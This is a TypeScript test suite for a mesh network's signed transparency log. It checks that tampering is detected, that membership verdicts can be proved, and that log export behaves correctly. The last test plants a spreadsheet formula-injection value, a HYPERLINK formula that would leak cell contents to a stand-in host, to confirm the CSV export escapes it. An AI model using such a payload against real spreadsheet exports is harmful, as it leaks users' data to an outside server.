import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { toBase64 } from '../../src/contract/encoding.ts';
import { readKeyFile } from '../../src/contract/key-file.ts';
import { TestMesh } from '../controller/support/test-mesh.ts';
import { changedProof, flipped, LyingLog } from './support/lying-log.ts';
import { meshnet } from './support/run-meshnet.ts';

const MINUTE = 60_000;
let mesh: TestMesh;
let directory: string;
/** The log as files, and the mesh's id. */
let honest: string;
let meshId: string;
let seed: Uint8Array;
/** Epoch in which b was cut. */
let cut: number;

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'meshnet-log-'));
  mesh = await TestMesh.start();
  const [a, b] = [await mesh.enrol('a', 1), await mesh.enrol('b', 2)];
  for (const score of [0.9, 0.8, 0.3, 0.95]) {
    await mesh.report(0.9, a);
    await mesh.report(score, b);
    await mesh.clock.advance(MINUTE);
    if (score === 0.3) cut = (await mesh.epoch()).epoch;
  }
  await mesh.restart();
  await mesh.report(0.9, a, b);
  await mesh.clock.advance(MINUTE);
  meshId = toBase64(mesh.meshId);
  seed = readKeyFile(join(mesh.state, 'controller.key'))!;
  honest = join(directory, 'honest');
  const exported = await log('export', '--directory', honest);
  expect(exported).toMatchObject({ code: 0, err: '' });
});
afterAll(async () => {
  await mesh.stop();
  rmSync(directory, { recursive: true });
});

function log(command: string, ...parameters: string[]) {
  return meshnet('log', command, '--socket', mesh.controller.adminSocket, ...parameters);
}

const sockets = () => ['--socket', mesh.controller.adminSocket];

function epochLeaf(epoch: number) {
  const leaf = new LyingLog(honest).leaves.find(
    (one) => one.event === 'epoch' && one.epoch === epoch,
  );
  return leaf as Extract<typeof leaf, { event: 'epoch' }>;
}

const check = (file: string) => meshnet('log', 'check', file, '--mesh', meshId);
const verify = (where: string, ...more: string[]) =>
  meshnet('log', 'verify', where, '--mesh', meshId, ...more);

/** A copy of the log of which the controller makes something else. */
function lie(name: string, tell: (lying: LyingLog) => void): string {
  const copy = join(directory, name.replaceAll(' ', '-'));
  cpSync(honest, copy, { recursive: true });
  const lying = new LyingLog(copy);
  tell(lying);
  lying.sign(seed);
  return copy;
}

test('show says in sentences who came, who was cut and why', async () => {
  const { out, err } = await log('show');
  expect(err).toBe('');
  expect(out).toMatch(/Z b was enrolled as 10\.10\.0\.3\.\n/);
  expect(out).toMatch(
    new RegExp(
      `Epoch ${cut}: 1 member, 1 denied\\. b was cut: score_below_threshold; alignment 0\\.300, `,
    ),
  );
  expect(out.split('\n').filter((line) => line.includes('Epoch'))).toHaveLength(1);
  expect((await log('show', '--node', 'b')).out.trim().split('\n')).toHaveLength(2);
  const lines = (await log('show', '--json', '--event', 'epoch')).out.trim().split('\n');
  expect(JSON.parse(lines[0]!)).toMatchObject({ event: 'epoch', epoch: 1 });
  expect((await log('show', '--since', 'yesterday')).code).toBe(2);
});

test('an honest log is right, wherever it is read', async () => {
  const places = [[], [honest, '--mesh', meshId], [mesh.url, '--mesh', meshId]];
  for (const place of places) {
    const { code, out, err } = await log('verify', ...place, '--json');
    expect(err).toBe('');
    expect(code).toBe(0);
    expect(JSON.parse(out)).toMatchObject({ findings: [], withoutRows: 0, withoutEvidence: 0 });
    expect((JSON.parse(out) as { confirmed: number }).confirmed).toBeGreaterThan(8);
  }
});

test('the log of another mesh is refused', async () => {
  const { code, err } = await meshnet(
    'log',
    'verify',
    honest,
    '--mesh',
    toBase64(new Uint8Array(32)),
  );
  expect([code, err]).toEqual([1, expect.stringContaining('not the key of mesh')]);
});

describe('a controller that lies', () => {
  const lies: Record<string, [tell: (lying: LyingLog) => void, found: RegExp]> = {
    'lets a node stay against its score': [
      (lying) => {
        lying.changeRow(cut, 'b', () => ({ allowed: true, reason: 'passed', passed: true }));
        lying.changeEpoch(cut, () => ({ removed: { count: 0, nodes: [] } }));
      },
      /b: was a member \(passed\), but from the evidence it is denied/,
    ],
    'cuts a node against its score': [
      (lying) =>
        lying.changeRow(cut, 'a', () => ({ allowed: false, reason: 'no_score', passed: false })),
      /a: was denied \(no_score\), but from the evidence it is a member/,
    ],
    'gives other numbers': [
      (lying) =>
        lying.changeRow(cut, 'b', (row) => ({ suites: [{ ...row.suites[0]!, score: 0.1 }] })),
      /b: has other numbers than its evidence/,
    ],
    'says that a score came earlier': [
      (lying) =>
        lying.changeRow(cut, 'a', ({ evidence }) => ({
          evidence: evidence.map((one) => ({ ...one, received_at: one.received_at - 10 * MINUTE })),
        })),
      /a: was a member \(passed\), but from the evidence it is denied \(score_too_old\)/,
    ],
    'leaves evidence out': [
      (lying) => lying.changeRow(cut, 'a', () => ({ evidence: [] })),
      /a: was a member \(passed\), but from the evidence it is/,
    ],
    'judges by another past': [
      (lying) =>
        lying.changeRow(cut, 'a', (row) => ({
          standing: { ...(row.standing as object), isMember: false },
        })),
      /a: is judged from another past/,
    ],
    'counts members that are none': [
      (lying) => lying.changeEpoch(cut, () => ({ members: 2, denied: 0 })),
      /counts other members than its rows/,
    ],
    'does not name who was cut': [
      (lying) => lying.changeEpoch(cut, () => ({ removed: { count: 0, nodes: [] } })),
      /names others as removed/,
    ],
    'judges by a policy that it has not told': [
      (lying) => lying.changeEpoch(cut, () => ({ policy: toBase64(new Uint8Array(32)) })),
      /by a policy that the log has not/,
    ],
    'forgets an enrolment': [
      (lying) => {
        lying.leaves = lying.leaves.filter(
          (leaf) => leaf.event !== 'enrolled' || leaf.node !== 'b',
        );
      },
      /b: is not enrolled/,
    ],
    'goes back to an earlier epoch': [
      (lying) => lying.changeEpoch(cut, () => ({ version: 1 })),
      /does not come after the epoch before/,
    ],
  };

  test.each(Object.entries(lies))('that %s is found out', async (name, [tell, found]) => {
    const { code, out } = await verify(lie(name, tell));
    expect(out).toMatch(found);
    expect(code).toBe(1);
  });

  test('shows two logs: who has seen one notices the other', async () => {
    const seen = join(honest, 'checkpoint');
    expect((await verify(honest, '--seen', seen)).code).toBe(0);
    const rewritten = lie('rewrites', (lying) =>
      lying.changeEpoch(1, (leaf) => ({ verdicts: { ...leaf.verdicts, root: toBase64(seed) } })),
    );
    const { code, err } = await verify(rewritten, '--seen', seen);
    expect([code, err]).toEqual([1, expect.stringContaining('there are two logs')]);
    const shorter = lie('goes back', (lying) => {
      lying.leaves = lying.leaves.slice(0, -1);
    });
    expect((await verify(shorter, '--seen', seen)).err).toContain('the log went back');
  });
});

test('a byte that is changed on the way is noticed, in every file', async () => {
  const copy = join(directory, 'changed');
  cpSync(honest, copy, { recursive: true });
  const files = readdirSync(copy, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
  expect(files.length).toBeGreaterThan(10);
  for (const file of files) {
    const bytes = readFileSync(file);
    if (bytes.length === 0) continue;
    const changed = Uint8Array.from(bytes);
    changed[bytes.length >> 1]! ^= 1;
    writeFileSync(file, changed);
    const { code, out } = await verify(copy, '--json');
    const isMissed =
      code === 0 && (JSON.parse(out) as { withoutEvidence: number }).withoutEvidence === 0;
    expect(isMissed, file).toBe(false);
    writeFileSync(file, bytes);
  }
});

describe('a proof', () => {
  let file: string;
  let text: string;
  beforeAll(async () => {
    file = join(directory, 'proof.json');
    expect((await log('prove', 'b', String(cut), '--out', file)).code).toBe(0);
    text = readFileSync(file, 'utf8');
  });

  test('shows a verdict to who knows nothing but the mesh', async () => {
    const { code, out } = await check(file);
    expect(code).toBe(0);
    expect(out).toContain(`b was denied in epoch ${cut}`);
    expect(out).toContain('follows from 1 signed scores');
    expect(text).not.toContain('"a"'); // nothing about others
  });

  test.each<[string, (proof: Record<string, never>) => void, string]>([
    [
      'another row',
      (proof: { row?: { content: string } }) => {
        proof.row!.content = flipped(proof.row!.content, 20);
      },
      'row: ',
    ],
    [
      'another leaf',
      (proof: { epoch?: { content: string } }) => {
        proof.epoch!.content = flipped(proof.epoch!.content, 20);
      },
      'epoch: ',
    ],
    [
      'another checkpoint',
      (proof: { checkpoint?: string }) => {
        proof.checkpoint = proof.checkpoint!.replace(/\n(\d+)\n/, '\n9$1\n');
      },
      'checkpoint: ',
    ],
    [
      'another key',
      (proof: { controller_key?: string }) => {
        proof.controller_key = flipped(proof.controller_key!);
      },
      'controller_key: ',
    ],
    [
      'evidence left out',
      (proof: { evidence?: unknown[] }) => {
        proof.evidence = [];
      },
      'evidence that is not there',
    ],
    [
      'no format',
      (proof: { format?: string }) => {
        delete proof.format;
      },
      'format: ',
    ],
  ] as never)('with %s is refused', async (name, change, what) => {
    const other = join(directory, `proof-${name.replaceAll(' ', '-')}.json`);
    writeFileSync(other, changedProof(text, change as never));
    const { code, err } = await check(other);
    expect([code, err]).toEqual([1, expect.stringContaining(what)]);
  });

  test('of a verdict that does not follow shows the lie to anybody', async () => {
    const where = lie('lies in one row', (lying) =>
      lying.changeRow(cut, 'b', () => ({ allowed: true, reason: 'passed', passed: true })),
    );
    const other = join(directory, 'lie.json');
    await meshnet('log', 'prove', 'b', String(cut), where, '--mesh', meshId, '--out', other);
    const { code, err } = await check(other);
    expect([code, err]).toEqual([1, expect.stringContaining('does not follow')]);
  });

  test('of a row that somebody else was shown otherwise: side by side the two show the lie', async () => {
    // The same verdict, in a tree of which the controller has told somebody else another root.
    const where = lie('shows another row', (lying) =>
      lying.changeRow(cut, 'b', () => ({ salt: toBase64(new Uint8Array(16)) })),
    );
    const other = join(directory, 'other.json');
    await meshnet('log', 'prove', 'b', String(cut), where, '--mesh', meshId, '--out', other);
    expect((await check(other)).code).toBe(0);
    const here = join(directory, 'here.json');
    await meshnet('log', 'prove', 'b', String(cut), honest, '--mesh', meshId, '--out', here);
    const { code, err } = await meshnet('log', 'check', here, other, '--mesh', meshId);
    expect([code, err]).toEqual([1, expect.stringContaining('has signed two logs')]);
  });

  test('of a row that its leaf does not name cannot be made: who is shown it has nothing', async () => {
    const where = join(directory, 'another-row');
    cpSync(honest, where, { recursive: true });
    const lying = new LyingLog(where);
    lying.changeRow(cut, 'b', () => ({ allowed: true })); // and the leaf stays
    const { code, err } = await meshnet('log', 'prove', 'b', String(cut), where, '--mesh', meshId);
    expect([code, err]).toEqual([1, expect.stringContaining('other rows than its leaf says')]);
    expect((await verify(where)).out).toContain('has other rows than its leaf says');
  });

  test('of what there is not is refused', async () => {
    expect((await log('prove', 'c', String(cut))).err).toContain('nothing about c');
    expect((await log('prove', 'b', '9999')).err).toContain('no epoch 9999');
  });
});

test('why tells the reason of any epoch that is kept', async () => {
  const socket = ['--socket', mesh.controller.adminSocket];
  const { out } = await meshnet('why', 'b', '--epoch', String(cut), ...socket);
  expect(out).toContain(`b was denied in epoch ${cut}`);
  expect(out).toContain('score_below_threshold; alignment 0.300');
});

test('an epoch that cut somebody and has no rows is named, and wrong; one that cut nobody is counted', async () => {
  const copy = lie('prunes', () => {});
  rmSync(join(copy, 'verdicts/1'));
  const pruned = await verify(copy, '--json');
  expect(JSON.parse(pruned.out)).toMatchObject({ findings: [], withoutRows: 1 });
  expect(pruned.code).toBe(0);
  rmSync(join(copy, `verdicts/${cut}`));
  const { code, out } = await verify(copy);
  expect(out).toContain(`epoch ${cut}: cut somebody, and its rows, which are kept for ever`);
  expect(code).toBe(1);
});

test('why tells of an epoch that is pruned what is kept of it', async () => {
  const { out: last } = await meshnet('epoch', '--json', ...sockets());
  const { epoch } = JSON.parse(last) as { epoch: number };
  const { root, count } = epochLeaf(epoch).verdicts;
  await mesh.restart({}, 0, async (state) => {
    const database = new DatabaseSync(join(state, 'mesh.db'));
    expect(database.prepare('DELETE FROM log_bundles WHERE epoch = ?').run(epoch).changes).toBe(1);
    database.close();
  });
  const of = (node: string, ...more: string[]) =>
    meshnet('why', node, '--epoch', String(epoch), ...sockets(), ...more);
  const { code, out } = await of('b');
  expect(code).toBe(0);
  expect(out).toContain(`The rows of epoch ${epoch} are pruned`);
  expect(out).toContain(`the root of its ${count} rows, ${root}`);
  expect(out).toMatch(new RegExp(`b was denied in epoch ${cut}, .*score_below_threshold; align`));
  expect((await of('a')).out).toContain('names no epoch that cut a');
  expect(JSON.parse((await of('b', '--json')).out)).toMatchObject({
    pruned: true,
    last_cut: { epoch: cut, reason: 'score_below_threshold' },
  });
});

test('show of a node has what was asked about it', async () => {
  await meshnet('node', 'reset-sequence', 'a', ...sockets());
  expect((await log('show', '--node', 'a')).out).toMatch(/asked.* a\b/i);
  expect((await log('show', '--node', 'b')).out).not.toMatch(/asked/i);
});

test('on a terminal the progress is in a line of its own, which is gone before anything else is said', async () => {
  const line = '\r\u001b[K';
  const broken = lie('a missing tile', () => {});
  rmSync(join(broken, 'tile', 'entries'), { recursive: true });
  Object.defineProperty(process.stderr, 'isTTY', { value: true, configurable: true });
  try {
    const right = await verify(honest);
    expect(right.err).toMatch(/verified \d+ of \d+ epochs/);
    const exported = await log('export');
    expect(exported.err).toMatch(/read \d+ of \d+ leaves/);
    for (const { err } of [right, exported]) expect(err.endsWith(line)).toBe(true);
    const wrong = await verify(broken);
    expect(wrong.code).toBe(1);
    expect(wrong.err.split(line).at(-1)).toMatch(/^meshnet: tile\/entries.*is missing\n$/);
    expect((await log('export', '--json')).err).toBe('');
  } finally {
    Reflect.deleteProperty(process.stderr, 'isTTY');
  }
});

test('export writes a line for each leaf', async () => {
  const jsonl = (await log('export')).out.trim().split('\n');
  const csv = (await log('export', '--format', 'csv')).out.trim().split('\r\n');
  expect(csv).toHaveLength(jsonl.length + 1);
  expect(csv[0]).toBe('at,event,epoch,node,members,denied,removed,by,what,about,held');
  expect(csv.find((line) => line.includes(`epoch,${cut},`))).toMatch(/,1,1,b,,,,$/);
});

test('export as CSV gives a spreadsheet nothing to compute', async () => {
  const about = '=HYPERLINK("https://a.example/?"&A1,"b")';
  const where = lie('a formula', (lying) => {
    const at = lying.leaves.at(-1)!.at;
    lying.leaves.push({ v: 1, at, event: 'asked', by: null, what: 'issue_token', about });
    lying.leaves.push({ v: 1, at, event: 'endpoint_changed', node: '-1-1' });
  });
  const { out } = await meshnet('log', 'export', where, '--mesh', meshId, '--format', 'csv');
  const [asked, moved] = out.trim().split('\r\n').slice(-2);
  expect(asked).toMatch(/,issue_token,"'=HYPERLINK\(""https:\/\/a\.example\/\?""&A1,""b""\)",$/);
  expect(moved).toMatch(/endpoint_changed,,'-1-1,/);
});
